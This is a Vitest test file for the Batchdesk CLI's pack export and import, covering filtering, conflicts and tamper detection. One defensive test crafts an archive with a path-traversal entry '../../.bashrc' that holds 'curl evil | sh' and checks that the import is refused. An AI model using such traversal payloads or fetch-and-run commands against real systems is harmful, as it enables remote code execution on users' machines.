import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { main } from '../../src-main/cli'
import {
  craftZip,
  exoticRuns,
  makeEmptyProject,
  makeProject,
  makeTempFolder,
  manifestText,
  readZip,
  removeFolder
} from '../engine/packs/helpers'

function capture() {
  const out: string[] = []
  const err: string[] = []
  return {
    io: { out: (t: string) => out.push(t), err: (t: string) => err.push(t), isTTY: false },
    out: () => out.join('\n'),
    err: () => err.join('\n')
  }
}

describe('batchdesk export and import', () => {
  let dir: string
  beforeEach(() => {
    dir = makeTempFolder('bd-cli-packs-')
  })
  afterEach(() => removeFolder(dir))

  it('exports matching runs of a batch and imports them into another project', async () => {
    const source = await makeProject(
      path.join(dir, 'theirs'),
      { sweep: exoticRuns(10), other: exoticRuns(2) },
      { author: 'Grace' }
    )
    const pack = path.join(dir, 'some.bdpack')
    let c = capture()
    expect(
      await main(
        ['export', source, '--batch', 'sweep', '--where', 'A>=3', '--where', 'A<8', '-o', pack],
        c.io
      )
    ).toBe(0)
    expect(c.out()).toMatch(/^Wrote 5 runs of sweep \(5\) to .*some\.bdpack \(\d+(\.\d)? KiB\)$/)

    const target = await makeEmptyProject(path.join(dir, 'mine'))
    c = capture()
    expect(await main(['import', target, pack, '--dry-run'], c.io)).toBe(0)
    expect(c.out()).toMatch(
      /some\.bdpack: made with Batchdesk \d+\.\d+\.\d+ by Grace on \d{4}-\d\d-\d\d \d\d:\d\d from project 'theirs'/
    )
    expect(c.out()).toMatch(/sweep\s+5\s+5\s+0\s+0\s+0\s+new batch/)
    expect(c.out()).toContain('Dry run: would import 5 runs; would add batch sweep. Nothing was written.')
    expect(existsSync(path.join(target, '_res'))).toBe(false)

    c = capture()
    expect(await main(['import', target, pack], c.io)).toBe(0)
    expect(c.out()).toContain('Imported 5 runs; added batch sweep.')
    c = capture()
    expect(await main(['status', target], c.io)).toBe(0)
    expect(c.out()).toMatch(/sweep\s+5\s+5\s+0/)
    c = capture()
    expect(await main(['query', target, '--batch', 'sweep', 'A>=6', '--csv'], c.io)).toBe(0)
    expect(c.out().trim().split('\r\n')).toHaveLength(1 + 2)
  })

  it('imports into the current folder when given only the pack, and reports conflicts kept as mine', async () => {
    const theirs = exoticRuns(3)
    const source = await makeProject(path.join(dir, 'theirs'), { sweep: theirs })
    const pack = path.join(dir, 'p.bdpack')
    await main(['export', source, '-o', pack], capture().io)
    const target = await makeProject(path.join(dir, 'mine'), {
      sweep: [{ parameters: theirs[0].parameters, result: 'mine' }]
    })
    const cwd = process.cwd()
    process.chdir(target)
    try {
      const c = capture()
      expect(await main(['import', pack], c.io)).toBe(0)
      expect(c.out()).toContain(
        '1 run is stored here with a different result: kept yours (--keep-both stores theirs beside them)'
      )
      expect(c.out()).toContain('Imported 2 runs.')
      const both = capture()
      expect(await main(['import', pack, '--keep-both'], both.io)).toBe(0)
      expect(both.out()).toMatch(
        /1 conflicting run of sweep were stored in sweep\.imported-\d{8} to compare with yours/
      )
    } finally {
      process.chdir(cwd)
    }
  })

  it('exits with 1 and lists rejected runs, and with 2 for a pack it refuses', async () => {
    const source = await makeProject(path.join(dir, 'theirs'), { sweep: exoticRuns(3) })
    const pack = path.join(dir, 'p.bdpack')
    await main(['export', source, '-o', pack], capture().io)
    const entries = (await readZip(pack)).map((e) => ({ name: e.name, data: e.data }))
    const group = entries.find((e) => e.name.startsWith('results/'))!
    group.data = Buffer.from(group.data.toString('utf8').replace('"val":1.1', '"val":7.1'))
    const tampered = path.join(dir, 'tampered.bdpack')
    writeFileSync(tampered, craftZip(entries))
    const target = await makeEmptyProject(path.join(dir, 'mine'))
    let c = capture()
    expect(await main(['import', target, tampered], c.io)).toBe(1)
    expect(c.err()).toMatch(
      /Rejected 1 run \(not imported\):\n {2}sweep [0-9a-f]{12}: its content does not match the sha256 in manifest\.json/
    )
    expect(c.out()).toContain('Imported 2 runs; added batch sweep.')

    const evil = path.join(dir, 'evil.bdpack')
    writeFileSync(
      evil,
      craftZip([...entries, { name: '../../.bashrc', data: Buffer.from('curl evil | sh') }])
    )
    const before = manifestText(target)
    c = capture()
    expect(await main(['import', target, evil], c.io)).toBe(2)
    expect(c.err()).toMatch(
      /^Error: evil\.bdpack: the entry name "\.\.\/\.\.\/\.bashrc" climbs out of its folder with "\.\."; the pack was not made by Batchdesk or was altered, so nothing was imported$/
    )
    expect(manifestText(target)).toBe(before)
    expect(existsSync(path.join(dir, '.bashrc'))).toBe(false)

    c = capture()
    expect(await main(['import', target], c.io)).toBe(2)
    expect(c.err()).toContain('mine is a folder: to import batchpy results, name their batch with --batch')
    c = capture()
    expect(await main(['export', target, '--batch', 'nope', '-o', path.join(dir, 'x.bdpack')], c.io)).toBe(2)
    expect(c.err()).toContain("There is no batch 'nope' in this project; batches: sweep")
  })

  it('imports a batchpy _res folder with --batch, and asks for --batch when it is missing', async () => {
    const res = path.resolve(__dirname, '../fixtures/packs/batchpy_res')
    const target = await makeEmptyProject(path.join(dir, 'mine'))
    let c = capture()
    expect(await main(['import', target, res], c.io)).toBe(2)
    expect(c.err()).toContain(
      'is a folder: to import batchpy results, name their batch with --batch (files <batch>_<id>.npy)'
    )
    c = capture()
    expect(await main(['import', target, res, '--batch', 'example'], c.io)).toBe(0)
    expect(c.out()).toMatch(/batchpy_res: batchpy results on/)
    expect(c.out()).toContain('Imported 3 runs; added batch example.')
    expect(
      JSON.parse(readFileSync(path.join(target, 'batchdesk.json'), 'utf8')).batches[0].imported.source
    ).toBe('batchpy_res')
  })
})
